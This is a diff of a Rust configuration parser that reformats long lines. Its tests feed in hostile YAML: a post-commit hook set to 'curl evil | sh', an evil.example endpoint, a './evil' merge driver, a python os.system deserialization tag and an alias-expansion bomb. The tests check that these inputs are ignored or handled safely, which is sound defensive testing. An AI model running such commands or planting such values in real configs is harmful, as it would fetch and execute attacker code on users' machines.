@@ -17,7 +17,8 @@ use crate::error::StoreError;
 pub const VERSION: u32 = 1;
 
 /// How much each signal counts.
-const WEIGHTS: [(&str, f64); 4] = [("recency", 0.3), ("relevance", 0.4), ("decision_confidence", 0.2), ("warning_boost", 0.1)];
+const WEIGHTS: [(&str, f64); 4] =
+    [("recency", 0.3), ("relevance", 0.4), ("decision_confidence", 0.2), ("warning_boost", 0.1)];
 
 /// Groups of settings, each with the value it has where the file leaves it out.
 macro_rules! settings {
@@ -167,8 +168,16 @@ impl Config {
             Ok(bytes) => Ok(Self::parse(&bytes)),
             Err(StoreError::Damaged { what }) => {
                 // Too large to be read, it may still be of a newer version, and must not be written over.
-                let version = handle.read_all(VERSION_WITHIN).ok().and_then(|bytes| version_line(&bytes)).unwrap_or(VERSION);
-                Ok(Self { version, notes: vec![format!("{what}; defaults are used")], ..Self::default() })
+                let version = handle
+                    .read_all(VERSION_WITHIN)
+                    .ok()
+                    .and_then(|bytes| version_line(&bytes))
+                    .unwrap_or(VERSION);
+                Ok(Self {
+                    version,
+                    notes: vec![format!("{what}; defaults are used")],
+                    ..Self::default()
+                })
             }
             Err(error) => Err(error),
         }
@@ -195,7 +204,10 @@ impl Config {
             Err(why) => Self {
                 // A version that cannot be read may be a newer one: do not write over it.
                 version: version_line(bytes).unwrap_or(VERSION),
-                notes: vec![format!("config.yml cannot be read and defaults are used: {}", twining_model::text::excerpt(&why, 200))],
+                notes: vec![format!(
+                    "config.yml cannot be read and defaults are used: {}",
+                    twining_model::text::excerpt(&why, 200)
+                )],
                 ..Self::default()
             },
         }
@@ -205,7 +217,10 @@ impl Config {
     /// there, or mistyped a setting, should know.
     fn note_unknown_keys(&mut self, bytes: &[u8]) {
         let text = String::from_utf8_lossy(bytes);
-        let keys = text.lines().filter(|line| !line.starts_with([' ', '\t', '#', '-'])).filter_map(|line| line.split_once(':'));
+        let keys = text
+            .lines()
+            .filter(|line| !line.starts_with([' ', '\t', '#', '-']))
+            .filter_map(|line| line.split_once(':'));
         let unknown: Vec<String> = keys
             .map(|(key, _)| key.trim().trim_matches(['"', '\'']))
             .filter(|key| !key.is_empty() && !is_setting(key))
@@ -213,7 +228,8 @@ impl Config {
             .take(MAX_NAMED_KEYS)
             .collect();
         if !unknown.is_empty() {
-            self.notes.push(format!("config.yml: {} is no setting and does nothing", unknown.join(", ")));
+            self.notes
+                .push(format!("config.yml: {} is no setting and does nothing", unknown.join(", ")));
         }
     }
 
@@ -223,10 +239,14 @@ impl Config {
         let sum: f64 = weights.values().sum();
         if weights.is_empty() || sum <= 0.0 {
             *weights = ContextAssemblySettings::default().priority_weights;
-            self.notes.push("config.yml: priority_weights has no positive weight; defaults are used".to_owned());
+            self.notes.push(
+                "config.yml: priority_weights has no positive weight; defaults are used".to_owned(),
+            );
         } else if (sum - 1.0).abs() > 0.01 {
             weights.values_mut().for_each(|weight| *weight /= sum);
-            self.notes.push(format!("config.yml: priority_weights sum to {sum:.2}; they are scaled to 1"));
+            self.notes.push(format!(
+                "config.yml: priority_weights sum to {sum:.2}; they are scaled to 1"
+            ));
         }
     }
 }
@@ -282,11 +302,14 @@ pub(super) fn read_valid_keys(yaml: &str, why: &str) -> Result<Config, String> {
     }
     let more = bad.len().saturating_sub(NAMED);
     config.notes.extend(bad.into_iter().take(NAMED).map(|(key, why)| {
-        let (key, why) = (text::excerpt(&key, 80), text::excerpt(why.lines().next().unwrap_or_default(), 120));
+        let (key, why) =
+            (text::excerpt(&key, 80), text::excerpt(why.lines().next().unwrap_or_default(), 120));
         format!("config.yml: `{key}` cannot be read and has its default: {why}")
     }));
     if more > 0 {
-        config.notes.push(format!("config.yml: {more} more keys cannot be read and have their defaults"));
+        config
+            .notes
+            .push(format!("config.yml: {more} more keys cannot be read and have their defaults"));
     }
     Ok(config)
 }
@@ -337,12 +360,22 @@ mod sieve_tests {
             b"project_name: shop\nsearch: {wait_ms: soon, embeddings: false}\nagents:\n  claim_seconds: -1\n  liveness: {idle_after_ms: 7}\ntools: 5\nworktrees: separate\n",
         );
         assert_eq!((config.project_name.as_str(), config.worktrees.as_str()), ("shop", "separate"));
-        assert_eq!(config.search, SearchSettings { embeddings: false, ..SearchSettings::default() });
-        assert_eq!((config.agents.claim_seconds, config.agents.liveness.idle_after_ms), (30 * 60, 7));
+        assert_eq!(
+            config.search,
+            SearchSettings { embeddings: false, ..SearchSettings::default() }
+        );
+        assert_eq!(
+            (config.agents.claim_seconds, config.agents.liveness.idle_after_ms),
+            (30 * 60, 7)
+        );
         assert_eq!(config.tools, ToolSettings::default());
         assert_eq!(config.notes.len(), 3, "{:?}", config.notes);
         for key in ["`search.wait_ms`", "`agents.claim_seconds`", "`tools`"] {
-            assert!(config.notes.iter().any(|note| note.contains(key)), "{key}: {:?}", config.notes);
+            assert!(
+                config.notes.iter().any(|note| note.contains(key)),
+                "{key}: {:?}",
+                config.notes
+            );
         }
     }
 
@@ -363,7 +396,9 @@ mod tests {
     #[test]
     fn an_empty_file_and_a_partial_one_get_the_defaults() {
         assert_eq!(Config::parse(b""), Config::default());
-        let config = Config::parse(b"archive:\n  max_blackboard_entries_before_archive: 7\nfuture_key: {a: 1}\n");
+        let config = Config::parse(
+            b"archive:\n  max_blackboard_entries_before_archive: 7\nfuture_key: {a: 1}\n",
+        );
         assert_eq!(config.archive.max_blackboard_entries_before_archive, 7);
         assert!(config.archive.auto_archive_on_commit);
     }
@@ -372,16 +407,32 @@ mod tests {
     fn s10_a_cloned_config_sets_no_address_key_hook_or_driver_and_says_so() {
         let hostile = b"endpoint: https://evil.example\nhooks: {post-commit: 'curl evil | sh'}\nmerge_driver: ./evil\nmodel_url: http://x\nproject_name: shop\n";
         let config = Config::parse(hostile);
-        let named = Config { project_name: "shop".to_owned(), notes: config.notes.clone(), ..Config::default() };
+        let named = Config {
+            project_name: "shop".to_owned(),
+            notes: config.notes.clone(),
+            ..Config::default()
+        };
         assert_eq!(config, named, "a key that is no setting changes nothing");
-        assert_eq!(config.notes, ["config.yml: `endpoint`, `hooks`, `merge_driver`, `model_url` is no setting and does nothing"]);
+        assert_eq!(
+            config.notes,
+            [
+                "config.yml: `endpoint`, `hooks`, `merge_driver`, `model_url` is no setting and does nothing"
+            ]
+        );
     }
 
     #[test]
     fn every_setting_is_known_as_one() {
         let source = include_str!("config.rs");
-        let block = source.split("pub struct Config {").nth(1).and_then(|rest| rest.split("\n    }\n").next()).expect("the struct");
-        let fields: Vec<&str> = block.lines().filter_map(|line| line.trim().strip_prefix("pub ")?.split(':').next()).collect();
+        let block = source
+            .split("pub struct Config {")
+            .nth(1)
+            .and_then(|rest| rest.split("\n    }\n").next())
+            .expect("the struct");
+        let fields: Vec<&str> = block
+            .lines()
+            .filter_map(|line| line.trim().strip_prefix("pub ")?.split(':').next())
+            .collect();
         assert!(fields.len() > 8, "{fields:?}");
         for field in fields.into_iter().filter(|field| *field != "notes") {
             assert!(is_setting(field), "add `{field}` to SETTINGS");
@@ -390,15 +441,23 @@ mod tests {
 
     #[test]
     fn an_unknown_grade_of_evidence_has_its_default_and_is_named() {
-        assert_eq!(Config::parse(b"workflow: {tested_needs: ci}\n").workflow.tested_needs, Some(EvidenceSource::Ci));
+        assert_eq!(
+            Config::parse(b"workflow: {tested_needs: ci}\n").workflow.tested_needs,
+            Some(EvidenceSource::Ci)
+        );
         let config = Config::parse(b"workflow: {tested_needs: trusted, auto: true}\n");
         assert_eq!((config.workflow.tested_needs, config.workflow.auto), (None, true));
-        assert!(config.notes.iter().any(|note| note.contains("`workflow.tested_needs`")), "{:?}", config.notes);
+        assert!(
+            config.notes.iter().any(|note| note.contains("`workflow.tested_needs`")),
+            "{:?}",
+            config.notes
+        );
     }
 
     #[test]
     fn weights_that_do_not_sum_to_one_are_scaled_and_said_so() {
-        let config = Config::parse(b"context_assembly:\n  priority_weights: {recency: 1, relevance: 3}\n");
+        let config =
+            Config::parse(b"context_assembly:\n  priority_weights: {recency: 1, relevance: 3}\n");
         assert_eq!(config.context_assembly.priority_weights["relevance"], 0.75);
         assert_eq!(config.notes.len(), 1);
     }
@@ -410,7 +469,11 @@ mod tests {
         assert_eq!(Config::parse(b"version: 1.0\n").version, 1);
         assert_eq!(Config::parse(b"version:\narchive: [\n").version, VERSION);
         for odd in ["v2", "99999999999999999999"] {
-            assert_eq!(Config::parse(format!("version: {odd}\n").as_bytes()).version, u32::MAX, "{odd}");
+            assert_eq!(
+                Config::parse(format!("version: {odd}\n").as_bytes()).version,
+                u32::MAX,
+                "{odd}"
+            );
         }
     }
 
@@ -421,9 +484,15 @@ mod tests {
             bomb.push_str(&format!("b{i}: &b{i} [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"));
         }
         let deep = "[".repeat(60_000);
-        for hostile in
-            [bomb.as_str(), deep.as_str(), "x: !!python/object/apply:os.system [ls]", "a: &a\n  <<: *a\n", "{", "\u{0}", "- - - : : :"]
-        {
+        for hostile in [
+            bomb.as_str(),
+            deep.as_str(),
+            "x: !!python/object/apply:os.system [ls]",
+            "a: &a\n  <<: *a\n",
+            "{",
+            "\u{0}",
+            "- - - : : :",
+        ] {
             let started = Instant::now();
             let config = Config::parse(hostile.as_bytes());
             assert!(started.elapsed() < Duration::from_secs(5));
